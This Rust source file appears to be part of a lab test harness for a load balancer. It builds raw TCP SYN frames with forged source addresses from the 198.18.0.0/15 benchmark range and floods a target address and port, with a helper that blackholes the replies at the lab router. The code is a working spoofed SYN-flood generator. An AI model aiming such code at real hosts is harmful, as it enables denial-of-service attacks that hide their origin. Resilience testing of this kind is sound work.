//! Frames from the client's machine that no socket would send.

use std::net::Ipv4Addr;

use lbd::lab::Host;
use pnet::datalink::{self, Channel};
use pnet::packet::MutablePacket;
use pnet::packet::ethernet::{EtherTypes, MutableEthernetPacket};
use pnet::packet::ip::IpNextHeaderProtocols;
use pnet::packet::ipv4::{self, MutableIpv4Packet};
use pnet::packet::tcp::{self, MutableTcpPacket, TcpFlags};
use pnet::util::MacAddr;

use super::stage::Stage;

/// Ethernet, IPv4 and TCP without options.
const SYN_BYTES: usize = 14 + 20 + 20;

/// First packets of connections that nobody will go on with, from as many addresses of 198.18.0.0/15.
#[derive(Clone, Copy, Debug)]
pub struct Syns {
    pub target: (Ipv4Addr, u16),
    pub count: u32,
}

/// What the balancer and the servers answer to forged addresses ends at the router.
pub fn swallow_answers(stage: &Stage) {
    stage.site.ip("router", "route add blackhole 198.18.0.0/15\n").unwrap();
}

/// The router's MAC on the customers' side.
pub fn router_mac(stage: &Stage) -> MacAddr {
    let text = stage.run("router", "ip", &["-o", "link", "show", "cust"]);
    let mac = text.split_once("link/ether ").unwrap().1.split(' ').next().unwrap();
    mac.parse().unwrap()
}

/// Sends them as fast as they leave; how many did.
pub fn send(host: &Host, router: MacAddr, syns: Syns) -> u32 {
    host.enter(move || {
        let interface = datalink::interfaces().into_iter().find(|i| i.name == "eth0").unwrap();
        let own = interface.mac.unwrap();
        let Channel::Ethernet(mut sender, _) = datalink::channel(&interface, datalink::Config::default()).unwrap()
        else {
            panic!("not an Ethernet channel");
        };
        let mut sent = 0;
        for n in 0..syns.count {
            let mut frame = [0; SYN_BYTES];
            fill(&mut frame, own, router, n, syns.target);
            // A full queue costs that frame: a flood does not wait.
            sent += u32::from(sender.send_to(&frame, None).unwrap().is_ok());
        }
        sent
    })
    .unwrap()
}

fn fill(frame: &mut [u8], own: MacAddr, router: MacAddr, n: u32, (vip, port): (Ipv4Addr, u16)) {
    let mut ethernet = MutableEthernetPacket::new(frame).unwrap();
    ethernet.set_source(own);
    ethernet.set_destination(router);
    ethernet.set_ethertype(EtherTypes::Ipv4);
    // An odd multiplier walks through all 2^17 addresses before any comes again.
    let source = Ipv4Addr::from(u32::from(Ipv4Addr::new(198, 18, 0, 0)) + (n.wrapping_mul(40_503) & 0x1_ffff));
    let mut ip = MutableIpv4Packet::new(ethernet.payload_mut()).unwrap();
    ip.set_version(4);
    ip.set_header_length(5);
    ip.set_total_length(40);
    ip.set_ttl(64);
    ip.set_next_level_protocol(IpNextHeaderProtocols::Tcp);
    ip.set_source(source);
    ip.set_destination(vip);
    let sum = ipv4::checksum(&ip.to_immutable());
    ip.set_checksum(sum);
    let mut segment = MutableTcpPacket::new(ip.payload_mut()).unwrap();
    segment.set_source(1024 + (n >> 17) as u16);
    segment.set_destination(port);
    segment.set_sequence(n);
    segment.set_data_offset(5);
    segment.set_flags(TcpFlags::SYN);
    segment.set_window(65_535);
    let sum = tcp::ipv4_checksum(&segment.to_immutable(), &source, &vip);
    segment.set_checksum(sum);
}
